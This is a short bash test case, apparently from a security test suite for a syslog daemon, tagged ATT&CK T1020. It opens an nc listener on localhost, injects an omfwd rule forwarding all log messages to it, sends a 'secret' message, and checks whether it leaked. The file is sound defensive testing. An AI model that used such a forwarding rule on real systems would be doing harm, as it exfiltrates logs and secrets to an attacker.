# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1020
about="all messages are sent to the attacker"
before() {
	nc -l 127.0.0.1 6666 >"$state/heard" 2>/dev/null </dev/null &
	listening 6666
}
attack() {
	configure <<<'action(type="omfwd" target="127.0.0.1" port="6666" protocol="tcp")'
	message x secret
	perhaps effect
	kill %nc
}
effect() { grep -q ready "$state/heard"; }
